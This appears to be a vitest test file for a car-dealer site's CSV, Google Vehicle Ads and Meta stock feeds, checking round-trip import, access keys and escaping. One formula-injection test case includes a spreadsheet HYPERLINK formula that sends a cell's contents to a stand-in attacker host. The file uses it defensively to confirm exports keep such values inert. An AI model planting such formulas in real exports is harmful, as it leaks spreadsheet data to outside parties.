import { Readable } from 'node:stream';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { readCsvFeed } from '#adapters/feeds/read-csv-feed.ts';
import { answerGoogleVehicleAds, answerMetaAutomotive, answerStockCsv } from '#api/car-feeds.ts';
import { demoSites } from '#demo/demo-sites.ts';
import { demoStock } from '#demo/demo-stock.ts';
import type { Car, NewCar } from '#domain/cars/car.ts';
import { canonicaliseMake } from '#domain/cars/make-aliases.ts';
import { isForSale } from '#domain/cars/card-tag.ts';
import { isSpinFrame } from '#domain/cars/spin-frames.ts';
import { whyNotVisible } from '#domain/cars/visibility.ts';
import { importContext } from '#domain/imports/import-context.ts';
import { NO_MAPPING } from '#domain/imports/mapping.ts';
import { readFeedCar } from '#domain/imports/row-to-car.ts';
import type { Website } from '#domain/tenants/website.ts';
import type { Site } from '#ports/site.ts';
import { sampleCar } from '#test/contracts/samples.ts';
import { collect, openTestSites, type TestSites } from './open-test-site.ts';

const NOW = Date.parse('2026-11-18T01:00:00Z');
const VIN = '1M8GDM9AXKP042788';

let sites: TestSites;
let number = 0;
beforeAll(async () => {
  sites = await openTestSites();
  sites.setNow(new Date(NOW).toISOString());
});
afterAll(() => sites.close());

async function siteWith(cars: NewCar[], configuration: object = {}): Promise<Site> {
  const site = await sites.site(`fed-${(number += 1)}`, configuration);
  for (let start = 0; start < cars.length; start += 300)
    await site.stock.upsert(cars.slice(start, start + 300));
  return site;
}

const asked = (path: string) => new Request(`http://fed.localhost:4400${path}`);
const rowsOf = async (answer: Response) =>
  collect(readCsvFeed(Readable.from([await answer.text()]) as AsyncIterable<string>));

describe('the stock as a table', () => {
  it.each(demoSites().map((website) => [website.slug, website] as const))(
    'is read back by our own import: %s',
    async (_slug, website) => {
      const { id: _id, slug: _own, domain_name: _domain, ...configuration } = website;
      const site = await siteWith(demoStock(website, NOW), configuration);
      const wanted = (await collect(site.stock.all())).filter((car) => isFed(car, site.website));
      const rows = await rowsOf(await answerStockCsv(asked('/feeds/stock.csv'), site));
      expect(rows).toHaveLength(wanted.length);
      rows.forEach((row, index) => {
        const given = { mapping: NO_MAPPING, isPlausibleYear: () => true, now: '', hash: String };
        const context = importContext(site.website, given);
        const read = readFeedCar(row, context);
        expect('car' in read && comparable(read.car)).toEqual(comparable(whole(wanted[index]!, site.origin)));
      });
    },
    60_000,
  );

  it('has the columns the dealer chose, under the dealer’s names', async () => {
    const columns = [
      { header: 'Stock No', field: 'stocknum' },
      { header: 'Ask', field: 'price' },
      { header: 'Link', field: 'url' },
    ];
    const site = await siteWith([sampleCar('S1', { price_cents: 4_599_049 })], { stock_feed: { columns } });
    const text = await (await answerStockCsv(asked('/feeds/stock.csv'), site)).text();
    const [car] = await collect(site.stock.all());
    expect(text).toBe(`"Stock No","Ask","Link"\r\n"S1","45990","${site.origin}/cars/${car!.slug}"\r\n`);
  });

  it('names the frames of a turn in a column of their own', async () => {
    const pictureOf = (url: string) => ({ image: { url }, thumb: url, view: null });
    const frames = Array.from({ length: 8 }, (_, at) => ({
      ...pictureOf(`/${at}.webp`),
      kind: 'spin' as const,
    }));
    const site = await siteWith([sampleCar('S1', { images: [...frames, pictureOf('/a.webp')] })]);
    const [row] = await rowsOf(await answerStockCsv(asked('/feeds/stock.csv'), site));
    expect(row?.get('images')).toBe(`${site.origin}/a.webp`);
    expect(String(row?.get('spin_images')).split('|')).toHaveLength(8);
  });

  it.each(['=1+1', '+1', '-1', '@SUM(1)', '\t=1', '=HYPERLINK("http://evil.test?"&A1,"x")', '＝1'])(
    'keeps %j a text, and our import reads it as it was',
    async (model) => {
      const site = await siteWith([sampleCar('S1', { model, description: model })]);
      const answer = await answerStockCsv(asked('/feeds/stock.csv'), site);
      const cells = (await answer.clone().text()).split(/","|"\r\n"|^"|"\r\n$/);
      expect(cells.filter((cell) => /^\s*[=+\-@＝]/.test(cell))).toEqual([]);
      const [row] = await rowsOf(answer);
      expect(row?.get('model')).toBe(model);
    },
  );

  it.each([
    ['', 404],
    ['?key=', 404],
    ['?key=abcdefgh123', 404],
    ['?key=abcdefgh1235', 404],
    ['?key=abcdefgh12345', 404],
    ['?key=ABCDEFGH1234', 404],
    ['?key=%EF%BF%BD%00', 404],
    ['?key=no&key=abcdefgh1234', 404],
    ['?key=abcdefgh1234', 200],
  ])('with a key is nobody’s without it: %j is answered by %i', async (query, status) => {
    const closed = await siteWith([sampleCar('S1')], { feeds: { csv: { access_key: 'abcdefgh1234' } } });
    expect((await answerStockCsv(asked(`/feeds/stock.csv${query}`), closed)).status).toBe(status);
  });

  it('is nobody’s where it is switched off', async () => {
    const off = await siteWith([sampleCar('S1')], { feeds: { csv: { enabled: false } } });
    expect((await answerStockCsv(asked('/feeds/stock.csv'), off)).status).toBe(404);
    expect((await answerMetaAutomotive(asked('/feeds/meta-automotive.csv'), off)).status).toBe(200);
  });
});

describe('Google Vehicle Ads', () => {
  const picture = { image: { url: '/a.webp' }, thumb: '/a.webp', view: null };
  const fit = { images: [picture], primary_image_url: '/a.webp', body: 'Ute', vin: VIN };
  const itemsOf = async (site: Site) =>
    (await (await answerGoogleVehicleAds(asked('/feeds/google-vehicle-ads.xml'), site)).text())
      .split('<item>')
      .slice(1);

  it.each([
    ['a motorhome', { body: 'Camper Van' }],
    ['a sold car', { sold: true, status: 'sold' }],
    ['a reserved car', { reserved: true }],
    ['a car on its way', { status: 'coming_soon' }],
    ['a car held back', { show_on_dealer_website: false }],
    ['a car without price', { price_cents: null }],
    ['a car without picture', { images: [], primary_image_url: null }],
    ['a new car at a price before charges', { car_type: 'new', price_basis: 'plus_on_road_costs' }],
  ] as [string, Partial<NewCar>][])('is not told of %s', async (_name, change) => {
    expect(await itemsOf(await siteWith([sampleCar('G1', { ...fit, ...change })]))).toEqual([]);
  });

  it('gets each VIN once, and no number that is none', async () => {
    const cars = ['G1', 'G2'].map((stocknum) => sampleCar(stocknum, fit));
    const items = await itemsOf(await siteWith([...cars, sampleCar('G3', { ...fit, vin: 'CHASSIS77' })]));
    expect(items.map((item) => /<g:id>(.*?)<\/g:id>/.exec(item)?.[1])).toEqual(['G1', 'G3']);
    expect(items[1]).not.toContain('g:vin');
  });

  it.each([
    [VIN, 1],
    ['1M8GDM9A1KP042788', 0],
    [null, 0],
  ])('needs a VIN with its check digit in North America: %s', async (vin, count) => {
    const site = await siteWith([sampleCar('G1', { ...fit, vin })], { locale: 'en-US' });
    expect(await itemsOf(site)).toHaveLength(count);
  });

  it('survives a name that is markup', async () => {
    const site = await siteWith([sampleCar('G1', { ...fit, name: '<b>&"\u0001]]>' })]);
    expect((await itemsOf(site))[0]).toContain('<g:title>&lt;b&gt;&amp;&quot;]]&gt;');
  });
});

function isFed(car: Car, website: Website): boolean {
  return isForSale(car) && whyNotVisible(car, website, NOW) === null;
}

/** Addresses leave the site whole, a make in the one spelling that is shown, a film not at all. */
function whole(car: Car, origin: string): NewCar {
  const address = (url: string) => (url.startsWith('/') ? origin + url : url);
  const images = car.images.map((picture) => ({
    image: { url: address(picture.image.url) },
    thumb: address(picture.image.url),
    view: null,
    ...(isSpinFrame(picture) && { kind: 'spin' as const }),
  }));
  const primary_image_url = car.primary_image_url && address(car.primary_image_url);
  const make = canonicaliseMake(car.make);
  const { video: _video, ...details } = car.details;
  return { ...car, make, images, details, primary_image_url, file: car.file && address(car.file) };
}

/** Without what a feed never decides: payments, the order of the list, ids that the store gives. */
function comparable(car: NewCar): object {
  const given = [
    'id',
    'slug',
    'updated_at',
    'custom_rank',
    'has_checkout_payment_processor',
    'payment_processors',
  ];
  const unsaid = ['photos_count', 'dealership_id', 'location_id', 'video'];
  return Object.fromEntries(Object.entries(car).filter(([name]) => ![...given, ...unsaid].includes(name)));
}
